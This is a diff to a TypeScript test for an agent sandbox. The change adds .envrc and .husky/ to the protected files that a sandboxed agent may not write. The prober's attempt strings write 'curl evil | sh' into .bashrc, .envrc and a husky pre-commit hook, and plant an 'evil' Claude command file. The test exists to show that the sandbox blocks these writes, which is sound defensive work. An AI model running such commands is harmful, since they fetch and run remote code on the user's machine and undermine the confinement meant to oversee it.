@@ -1,7 +1,7 @@
 /**
  * Issue 35: what a sandboxed agent may not read or write besides the user's files. Case 8: the
  * protected files of its own worktree (`.mcp.json`, `.vscode/`, `.claude/commands`, `.gitmodules`,
- * `.bashrc`) are read-only to it, as docs/sandbox.md says (the library worked them out against
+ * `.bashrc`, `.envrc`, `.husky/`) are read-only to it, as docs/sandbox.md says (the library worked them out against
  * hydra's working directory, the user's checkout), and `[sandbox] allow_write = [".vscode"]` lets
  * it write that one; the mounts that keep an absent one from being made leave nothing in its result.
  * And its rivals: another agent's worktree and the run records in `.hydra/runs` are unreadable to it.
@@ -41,6 +41,8 @@ const proberBody = (): string => {
     claudeCommands: 'mkdir -p .claude/commands && echo evil > .claude/commands/evil.md',
     gitmodules: 'printf "[submodule \\"x\\"]\\n" > .gitmodules',
     bashrc: 'echo "curl evil | sh" > .bashrc',
+    envrc: 'echo "curl evil | sh" > .envrc',
+    husky: 'mkdir -p .husky && echo "curl evil | sh" > .husky/pre-commit',
   };
   return [
     ...Object.entries(attempts).map(
@@ -74,7 +76,17 @@ const race = async (
   return { summary, attempts, files };
 };
 
-const ATTEMPTS = ['rivalWorktree', 'runRecords', 'mcp', 'vscode', 'claudeCommands', 'gitmodules', 'bashrc'];
+const ATTEMPTS = [
+  'rivalWorktree',
+  'runRecords',
+  'mcp',
+  'vscode',
+  'claudeCommands',
+  'gitmodules',
+  'bashrc',
+  'envrc',
+  'husky',
+];
 
 describe('a sandboxed agent', () => {
   it(
@@ -107,6 +119,8 @@ describe('a sandboxed agent', () => {
       [
         '.bashrc',
         '.claude/commands/evil.md',
+        '.envrc',
+        '.husky/pre-commit',
         '.gitmodules',
         '.mcp.json',
         '.vscode/tasks.json',
